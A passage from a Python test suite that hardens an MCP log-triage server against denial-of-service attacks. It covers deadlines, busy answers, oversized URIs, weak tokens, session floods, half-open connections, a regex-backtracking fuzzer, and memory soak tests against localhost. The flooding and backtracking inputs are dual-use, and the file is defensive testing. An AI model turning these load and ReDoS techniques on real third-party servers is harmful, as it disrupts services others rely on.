        assert r.is_error and "deadline" in text.lower() and "1 s" in text, text[:500]
        assert took < 20.0, took  # 1 s deadline; cancellation lands between Python steps (a busy box adds seconds)
        # the cancellation lands between Python steps: allow a busy machine up to 30 s for the work to stop
        for _ in range(30):
            cpu0 = time.process_time()
            await anyio.sleep(1.0)
            if time.process_time() - cpu0 < 0.5:
                break
        else:
            raise AssertionError("the cancelled work is still running after 30 s")
        r = await c.call_tool("triage", {"text": "step:1 - actor/grad_norm:nan"})
        assert not r.is_error


async def test_heavy_calls_beyond_the_pool_get_a_clear_busy_answer(tmp_path, monkeypatch):
    """Attack 4: forty slow calls filled all worker threads and a victim waited 13 minutes. Heavy calls run in a
    small pool with a queue; beyond it the answer is an immediate, clear "busy"."""
    import anyio

    big = _metric_log(tmp_path / "big.log", 6)
    _slow_chunks(monkeypatch)  # the first call holds the one worker for >= 1 s however fast the machine
    monkeypatch.setenv("GRPO_DEBUG_WORKERS", "1")
    monkeypatch.setenv("GRPO_DEBUG_QUEUE", "0")
    results: list = []
    async with Client(build_server(allowed_roots=[tmp_path])) as c:
        async def one() -> None:
            t0 = time.monotonic()
            r = await c.call_tool("triage", {"path": str(big)})
            results.append((r.is_error, " ".join(getattr(x, "text", "") for x in r.content), time.monotonic() - t0))

        async with anyio.create_task_group() as tg:
            for _ in range(4):
                tg.start_soon(one)
        busy = [x for x in results if x[0]]
        assert busy and any(not x[0] for x in results), results
        assert all("busy" in t.lower() and "retry" in t.lower() for _, t, _ in busy), busy
        assert min(s for _, _, s in busy) < 1.0
        r = await c.call_tool("suggest", {"text": "nan"})  # light tools are never queued
        assert not r.is_error


async def test_huge_rule_uri_gets_a_short_error():
    """Attack 10: a 5 MB rule:// URI came back as a 10 MB error."""
    async with Client(build_server()) as c:
        try:
            r = await c.read_resource("rule://" + "a" * 5_000_000)
            msg = json.dumps([getattr(x, "text", "") for x in r.contents])
        except Exception as e:  # noqa: BLE001 - the SDK raises the server's error
            msg = str(e)
        assert len(msg) < 2000, len(msg)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_weak_tokens_are_refused(tmp_path):
    """Attack 10: a 16-character token of one letter was accepted for a non-loopback bind."""
    for weak in ("a" * 16, "ab" * 12, "0123456789abcdef"[:4] * 4):
        r = cli("serve", "--transport", "http", "--host", "0.0.0.0", "--port", _free_port(),
                env={"GRPO_DEBUG_TOKEN": weak}, timeout=20)
        refused(r, "token")


# ---- attack 8: sessions and connections over HTTP ------------------------------------------------------------------

_INIT = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
         "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}
_HDRS = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}


def test_abandoned_sessions_expire_and_are_capped(serve_http):
    """Attack 8: 10,000 abandoned sessions locked every client out (503) for the 30-minute idle timeout."""
    import httpx

    with serve_http(env={"GRPO_DEBUG_MAX_SESSIONS": "3", "GRPO_DEBUG_SESSION_IDLE_TIMEOUT": "2"}) as (port, proc):
        url = f"http://127.0.0.1:{port}/mcp"
        sids = []
        for _ in range(3):
            r = httpx.post(url, json=_INIT, headers=_HDRS, timeout=10)
            assert r.status_code == 200
            sids.append(r.headers["mcp-session-id"])
        full = httpx.post(url, json=_INIT, headers=_HDRS, timeout=10)  # issue 21: the oldest idle one makes room
        assert full.status_code == 200, full.text
        listing = {"jsonrpc": "2.0", "id": 2, "method": "tools/list"}
        assert httpx.post(url, json=listing, headers={**_HDRS, "mcp-session-id": sids[0]}, timeout=10).status_code == 404
        time.sleep(4.5)
        assert httpx.post(url, json=listing, headers={**_HDRS, "mcp-session-id": sids[2]}, timeout=10).status_code == 404
        ok = httpx.post(url, json=_INIT, headers=_HDRS, timeout=10)
        assert ok.status_code == 200, ok.text
        assert proc.poll() is None


def test_idle_connections_time_out(serve_http):
    """Attack 8: idle connections never timed out (a fresh silent one, and one stuck in its headers); at the
    file-descriptor limit the server exited."""
    with serve_http(env={"GRPO_DEBUG_IDLE_TIMEOUT": "2"}) as (port, proc):
        socks = []
        for partial in (b"", b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n"):
            s = socket.create_connection(("127.0.0.1", port))
            s.settimeout(10)
            if partial:
                s.sendall(partial)
            socks.append(s)
        t0 = time.monotonic()
        for s in socks:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            assert not data or b"408" in data or b"400" in data, data[:200]
            s.close()
        assert time.monotonic() - t0 < 8, "idle connections stayed open"
        assert proc.poll() is None


# ---- attack 4: every regular expression of the engine and the rule base is linear on hostile lines ---------------

FUZZ_CHARS = 8_000       # a hostile line (normalised lines are cut at 20,000 characters)
FUZZ_LINE_BUDGET = 0.25  # s per search: a linear pattern takes ~1 ms on 8k characters, a quadratic one ~1 s
# (a pattern over the budget is timed a second time and the faster run counts: a busy machine is not a finding)
FUZZ_PATTERN_BUDGET = 60.0
# patterns the code only ever applies to a bounded slice of the input: fuzzed at that length
BOUNDED_INPUT = {r"(\S.{0,11}?)(?:\s?\1){7,}$": 200}  # engine/series/garbled.py: the last 200 characters of a sample
_RE_CALLS = {"compile": 1, "search": 2, "match": 2, "fullmatch": 2, "findall": 2, "finditer": 2, "split": 3,
             "sub": 4, "subn": 4}


def _literal_patterns() -> list[tuple[str, str, int, str]]:
    """(where, pattern, flags, how) for every literal pattern of an re.* call under tools/ and server/ (probes
    read the host's own files, not inputs)."""
    import ast

    out = []
    for top in ("tools", "server"):
        for f in sorted((REPO / top).rglob("*.py")):
            if "__pycache__" in f.parts:
                continue
            for n in ast.walk(ast.parse(f.read_text(encoding="utf-8"))):
                if not (isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute) and n.func.attr in _RE_CALLS
                        and isinstance(n.func.value, ast.Name) and n.func.value.id == "re" and n.args):
                    continue
                try:
                    pat = ast.literal_eval(n.args[0])
                except ValueError:
                    continue
                if not isinstance(pat, str):
                    continue
                fl = next((k.value for k in n.keywords if k.arg == "flags"), None)
                if fl is None and len(n.args) > _RE_CALLS[n.func.attr]:
                    fl = n.args[_RE_CALLS[n.func.attr]]
                try:
                    flags = int(eval(compile(ast.Expression(fl), "<flags>", "eval"), {"re": re})) if fl else 0
                except Exception:  # noqa: BLE001 - a computed flag: test without it
                    flags = 0
                how = n.func.attr if n.func.attr in ("match", "fullmatch") else "search"
                out.append((f"{f.relative_to(REPO)}:{n.lineno}", pat, flags, how))
    return out


def _module_patterns() -> list[tuple[str, str, int, str]]:
    """Compiled patterns held by the engine's modules (module attributes, dict values and tuples)."""
    import importlib

    out = []
    for top in ("tools", "server"):
        for f in sorted((REPO / top).rglob("*.py")):
            if "__pycache__" in f.parts or "examples" in f.parts:
                continue
            parts = list(f.relative_to(REPO).with_suffix("").parts)
            name = ".".join(["grpo_debug", *(parts[:-1] if parts[-1] == "__init__" else parts)])
            try:
                mod = importlib.import_module(name)
            except Exception:  # noqa: BLE001 - a module that cannot import here has no patterns to test
                continue
            for k, v in vars(mod).items():
                vals = [v] if isinstance(v, re.Pattern) else list(v.values()) if isinstance(v, dict) else \
                    list(v) if isinstance(v, (list, tuple)) else []
                for x in vals:
                    for p in (x if isinstance(x, tuple) else (x,)):
                        if isinstance(p, re.Pattern):
                            out.append((f"{name}.{k}", p.pattern, p.flags & ~re.UNICODE, "search"))
    return out


def _rule_patterns() -> list[tuple[str, str, int, str]]:
    from grpo_debug.skills.loader import default_rules
    from grpo_debug.skills.schema import RegexSignal

    return [(f"rule {r.id}", s.pattern, re.I if s.ignore_case else 0, "search")
            for r in default_rules() for s in r.match.signals() if isinstance(s, RegexSignal)]


def hostile_lines(pattern: str, n: int = FUZZ_CHARS) -> list[str]:
    """Lines that pump what a pattern can repeat: its literal characters and words, blanks, digits, separators,
    each alone and after the prefixes that route a line to a parser (tqdm, comment, verl step)."""
    lits = sorted({c for c in re.sub(r"\\.", "", pattern) if c.isprintable() and c not in "()[]{}?*+|^$\\"})
    words = sorted(set(re.findall(r"[A-Za-z_]{3,}", re.sub(r"\\.", " ", pattern))))[:20]
    units = ["0", " ", "\t ", "a=a", "a", "1", "[", "{", "-", ".", "x.", "a,", "a ", "1 ", "1.", ":", "a:", "a:1 ", "=1,",
             "nan", "--a ", "'", '"', "/", "|", "<", "a_", "A_", "a.b", "step ", "1e", "a/", "(", "\\", "a-", "\n",
             " \n", "a=1, ", "a: 1, ", "# ", ",", "e", "_", "@", "$", "${a}", "a.", " -", "0.", "%", "*", "inf "]
    units += lits + [c + "a" for c in lits] + [c + " " for c in lits] + [c + "1" for c in lits]
    units += [w + " " for w in words] + [w + ": " for w in words] + [w + "=" for w in words] + [w + "0" for w in words]
    out = []
    for w in words:
        out += [w + " " * n, w + ":" + " " * n, w + "0" * n, w + " " + "1 " * (n // 2)]
    for u in dict.fromkeys(units):
        body = (u * (n // max(1, len(u)) + 1))[:n]
        out += [body, body + "!", "| 1/10 [00:01<00:09, " + body, "# " + body, "step:1 - " + body]
    return out


def _worst_time(pattern: str, flags: int, how: str) -> tuple[float, str]:
    """In a forked child: the slowest search of ``pattern`` over hostile_lines, and the line's start. The child
    says when each search starts and how long it took; a search still running past 4x the budget is killed
    and counts as infinite (a catastrophic pattern never finishes), while a pattern that is merely slow over
    hundreds of lines on a busy machine is not a finding."""
    import select
    import signal

    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            rx = re.compile(pattern, flags)
            run = getattr(rx, how)
            for line in hostile_lines(pattern, BOUNDED_INPUT.get(pattern, FUZZ_CHARS)):
                os.write(w, (json.dumps(["s", line[:30]]) + "\n").encode())
                t = time.perf_counter()
                run(line)
                os.write(w, (json.dumps([time.perf_counter() - t, line[:30]]) + "\n").encode())
        finally:
            os._exit(0)
    os.close(w)
    worst, buf, started, current, t0 = (0.0, ""), b"", None, "", time.monotonic()
    try:
        while True:
            now = time.monotonic()
            if started is not None and now - started > 4 * FUZZ_LINE_BUDGET or now - t0 > FUZZ_PATTERN_BUDGET:
                os.kill(pid, signal.SIGKILL)
                return (float("inf"), current) if started is not None and now - started > 4 * FUZZ_LINE_BUDGET \
                    else worst
            if not select.select([r], [], [], 0.05)[0]:
                continue
            b = os.read(r, 65536)
            if not b:
                return worst
            buf += b
            *done, buf = buf.split(b"\n")
            for msg in done:
                d, line = json.loads(msg)
                if d == "s":
                    started, current = time.monotonic(), line
                else:
                    started = None
                    if d > worst[0]:
                        worst = (d, line)
    finally:
        os.close(r)
        os.waitpid(pid, 0)


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork to stop a runaway pattern")
def test_every_regex_is_linear_on_hostile_lines():
    """Attack 4: per-line regexes backtracked (a `# 000...` comment 16 s, whitespace lines 72 s, a tqdm postfix
    49 s). Every literal pattern of the engine, every compiled one its modules hold and every rule regex is
    searched over lines built to pump what it repeats; none may take more than FUZZ_LINE_BUDGET on one line."""
    seen, slow = set(), []
    for where, pat, flags, how in _literal_patterns() + _module_patterns() + _rule_patterns():
        if (pat, flags, how) in seen:
            continue
        seen.add((pat, flags, how))
        try:
            re.compile(pat, flags)
        except re.error:
            continue
        took, line = _worst_time(pat, flags, how)
        if took > FUZZ_LINE_BUDGET:
            took = min(took, _worst_time(pat, flags, how)[0])
        if took > FUZZ_LINE_BUDGET:
            slow.append(f"{where}: {pat[:90]!r} took {took:.2f} s on {line!r}...")
    assert len(seen) > 100
    assert not slow, "\n".join(slow)


# ---- soaks (slow): many clients, abandoned sessions ---------------------------------------------------------------

def _rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


def _peak_sampler(pid: int):
    """A thread that samples the server's RSS every 0.2 s; returns (stop function, list of samples)."""
    samples: list[float] = []
    stop = threading.Event()

    def run() -> None:
        while not stop.is_set():
            try:
                samples.append(_rss_mb(pid))
            except (OSError, AssertionError):
                return
            stop.wait(0.2)
    t = threading.Thread(target=run, daemon=True)
    t.start()
    return (lambda: (stop.set(), t.join(2))), samples


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs /proc to read the server's RSS")
async def test_soak_50_clients_20_triage_calls_on_a_5mb_log(tmp_path, serve_http):
    """Done-when of issue 16: 50 concurrent HTTP clients each make 20 triage calls on a 5 MB log: 0 errors,
    server peak RSS <= 1 GB; p50/p95 printed (the issue measured p95 272 s and 2.5 GB)."""
    import anyio

    calls = int(os.environ.get("GRPO_DEBUG_SOAK_CALLS", "20"))  # per client; fewer for a quick look
    log = _metric_log(tmp_path / "run.log", 5)
    text = log.read_text(encoding="utf-8")
    latencies: list[float] = []
    errors: list[str] = []
    with serve_http("--allow", str(tmp_path), cwd=str(tmp_path), env={"GRPO_DEBUG_CALL_TIMEOUT": "600"}) as (port, proc):
        url = f"http://127.0.0.1:{port}/mcp"
        async with Client(url) as c:
            r = await c.call_tool("triage", {"text": text})
            assert not r.is_error, r.content
        stop, samples = _peak_sampler(proc.pid)

        async def one(i: int) -> None:
            try:
                async with Client(url, read_timeout_seconds=900) as c:
                    for k in range(calls):
                        t = time.perf_counter()
                        r = await c.call_tool("triage", {"text": text} if (i + k) % 2 else {"path": str(log)})
                        latencies.append(time.perf_counter() - t)
                        if r.is_error:
                            errors.append(f"client {i}: {' '.join(getattr(x, 'text', '') for x in r.content)[:200]}")
            except Exception as e:  # noqa: BLE001 - a transport failure is an error of this soak
                errors.append(f"client {i}: {type(e).__name__}: {e}")

        t0 = time.perf_counter()
        try:
            with anyio.fail_after(3000):
                async with anyio.create_task_group() as tg:
                    for i in range(50):
                        tg.start_soon(one, i)
        finally:  # the figures so far, also when the soak runs out of time
            wall = time.perf_counter() - t0
            stop()
            lat = sorted(latencies) or [float("nan")]
            p50, p95 = lat[len(lat) // 2], lat[min(len(lat) - 1, int(0.95 * (len(lat) - 1)))]
            print(f"\nsoak: 50 clients x {calls} triage calls on a {len(text) / 2**20:.1f} MiB log: {len(latencies)} calls "
                  f"in {wall:.0f} s, {len(errors)} errors; latency p50 {p50:.1f} s, p95 {p95:.1f} s, max {lat[-1]:.1f} s; "
                  f"server peak RSS {max(samples or [0]):.0f} MB", flush=True)
        assert proc.poll() is None, "the server died under load"
    assert not errors, errors[:5]
    assert len(latencies) == 50 * calls
    assert max(samples) <= 1024, max(samples)


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs /proc to read the server's RSS")
def test_soak_500_abandoned_sessions_are_reclaimed(serve_http):
    """Done-when of issue 16: 500 sessions opened and abandoned; after the idle timeout the server's RSS is back
    within 100 MB of where it started (and new clients are served)."""
    import httpx

    with serve_http(env={"GRPO_DEBUG_SESSION_IDLE_TIMEOUT": "10"}) as (port, proc):
        url = f"http://127.0.0.1:{port}/mcp"
        with httpx.Client(timeout=30) as h:
            sid = h.post(url, json=_INIT, headers=_HDRS).headers["mcp-session-id"]
            h.post(url, json={"jsonrpc": "2.0", "method": "notifications/initialized"},
                   headers={**_HDRS, "mcp-session-id": sid})
            h.post(url, json={"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                              "params": {"name": "triage", "arguments": {"text": "step:1 - actor/grad_norm:nan"}}},
                   headers={**_HDRS, "mcp-session-id": sid})
            time.sleep(12)
            start = _rss_mb(proc.pid)
            abandoned = []
            for _ in range(500):
                r = h.post(url, json=_INIT, headers=_HDRS)
                assert r.status_code == 200
                abandoned.append(r.headers["mcp-session-id"])
            opened = _rss_mb(proc.pid)
        time.sleep(16)
        end = _rss_mb(proc.pid)
        with httpx.Client(timeout=30) as h:
            assert h.post(url, json=_INIT, headers=_HDRS).status_code == 200
            gone = h.post(url, json={"jsonrpc": "2.0", "id": 3, "method": "tools/list"},
                          headers={**_HDRS, "mcp-session-id": abandoned[0]})
            assert gone.status_code == 404, "an abandoned session is still open after the idle timeout"
        print(f"\nsessions: RSS {start:.0f} MB at start, {opened:.0f} MB with 500 open sessions, {end:.0f} MB after "
              "the idle timeout")
        assert end - start <= 100, (start, opened, end)
